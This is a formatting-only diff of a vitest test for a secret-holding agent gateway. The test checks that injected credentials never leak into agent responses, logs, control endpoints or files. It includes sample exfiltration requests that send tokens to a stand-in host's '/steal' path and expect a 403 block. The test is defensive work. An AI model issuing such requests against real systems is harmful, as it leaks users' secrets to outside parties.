@@ -7,7 +7,12 @@ import { readdirSync, readFileSync, statSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { type AgentCredentials, type GatewayProcess, startGateway } from "../fakes/gateway-process.js";
-import { type ProxiedResponse, type ProxyRequestInit, proxyRequest, proxyWebSocket } from "../fakes/proxy-client.js";
+import {
+  type ProxiedResponse,
+  type ProxyRequestInit,
+  proxyRequest,
+  proxyWebSocket,
+} from "../fakes/proxy-client.js";
 import { createTestCa } from "../fakes/test-ca.js";
 import { type RecordingUpstream, startUpstream } from "../fakes/upstreams.js";
 import { decide, listApprovals, waitForPending } from "./approvals-api.js";
@@ -56,7 +61,11 @@ beforeAll(async () => {
       elsewhere: { hosts: ["elsewhere.test"], rules: [], default: "allow" },
     },
     upstreamCa: [ca.pemPath],
-    resolve: { "vault.test": `127.0.0.1:${up.port}`, "elsewhere.test": `127.0.0.1:${up.port}`, "vault-tls.test": `127.0.0.1:${tlsUp.port}` },
+    resolve: {
+      "vault.test": `127.0.0.1:${up.port}`,
+      "elsewhere.test": `127.0.0.1:${up.port}`,
+      "vault-tls.test": `127.0.0.1:${tlsUp.port}`,
+    },
   });
   for (const [name, value] of Object.entries(SECRETS)) await gw.setSecret(name, value);
   agent = await gw.createAgent("leaky");
@@ -77,12 +86,32 @@ describe("every feature, then a search for the real values", () => {
     const auth = { authorization: `Bearer ${hdr}` };
 
     expect((await send(`${v}/echo-auth`, { headers: auth })).status).toBe(200);
-    expect((await send(`https://vault-tls.test:${tlsUp.port}/echo-auth`, { headers: auth })).status).toBe(200);
+    expect((await send(`https://vault-tls.test:${tlsUp.port}/echo-auth`, { headers: auth })).status).toBe(
+      200,
+    );
     expect((await send(`${v}/q/${hdr}?k=${hdr}`, { headers: auth })).status).toBe(200);
-    expect((await send(`${v}/body`, { method: "PUT", body: JSON.stringify({ t: bod, h: hdr }), headers: { "content-type": "application/json" } })).status).toBe(200);
+    expect(
+      (
+        await send(`${v}/body`, {
+          method: "PUT",
+          body: JSON.stringify({ t: bod, h: hdr }),
+          headers: { "content-type": "application/json" },
+        })
+      ).status,
+    ).toBe(200);
     expect((await send(`${v}/x`, { method: "DELETE", headers: auth })).status).toBe(403);
-    expect((await send(`http://elsewhere.test:${up.port}/steal?k=${hdr}`, { headers: auth })).status).toBe(403);
-    expect((await send(`http://elsewhere.test:${up.port}/steal`, { method: "POST", body: bod, headers: { "x-token": bod } })).status).toBe(403);
+    expect((await send(`http://elsewhere.test:${up.port}/steal?k=${hdr}`, { headers: auth })).status).toBe(
+      403,
+    );
+    expect(
+      (
+        await send(`http://elsewhere.test:${up.port}/steal`, {
+          method: "POST",
+          body: bod,
+          headers: { "x-token": bod },
+        })
+      ).status,
+    ).toBe(403);
     expect((await send(`${v}/redirect?k=${hdr}`, { headers: auth })).status).toBe(302);
 
     const held = send(`${v}/pay/1?k=${hdr}`, {
@@ -99,19 +128,38 @@ describe("every feature, then a search for the real values", () => {
     await decide(gw, second.id, "deny", "test:alice");
     expect((await denied).status).toBe(403);
 
-    const ws = await proxyWebSocket(gw, `ws://vault.test:${up.port}/socket`, { agent: "leaky", token: agent.token }, auth);
+    const ws = await proxyWebSocket(
+      gw,
+      `ws://vault.test:${up.port}/socket`,
+      { agent: "leaky", token: agent.token },
+      auth,
+    );
     ws.close();
 
     // Sanity: the upstream did get the real values, so the search below is meaningful.
-    const upstreamSaw = JSON.stringify([up.requests.map((r) => [r.url, r.headers, r.body.toString()]), up.handshakes]);
+    const upstreamSaw = JSON.stringify([
+      up.requests.map((r) => [r.url, r.headers, r.body.toString()]),
+      up.handshakes,
+    ]);
     expect(upstreamSaw).toContain(SECRETS.HEADER_TOKEN);
     expect(upstreamSaw).toContain(SECRETS.BODY_TOKEN);
   });
 
   it.each(Object.keys(SECRETS))("finds %s nowhere it must not be", async (name) => {
     const value = SECRETS[name as keyof typeof SECRETS];
-    const places: Record<string, string> = { "agent responses": seenByAgent.join("\n"), "gateway stdout/stderr": gw.output() };
-    for (const path of ["/v1/audit?after=0", "/v1/approvals?state=pending", "/v1/approvals", "/v1/secrets", "/v1/agents", "/v1/health", "/metrics"]) {
+    const places: Record<string, string> = {
+      "agent responses": seenByAgent.join("\n"),
+      "gateway stdout/stderr": gw.output(),
+    };
+    for (const path of [
+      "/v1/audit?after=0",
+      "/v1/approvals?state=pending",
+      "/v1/approvals",
+      "/v1/secrets",
+      "/v1/agents",
+      "/v1/health",
+      "/metrics",
+    ]) {
       places[`GET ${path}`] = (await gw.control("GET", path)).text;
     }
     for (const file of files(gw.home)) places[file] = readFileSync(file).toString("latin1");
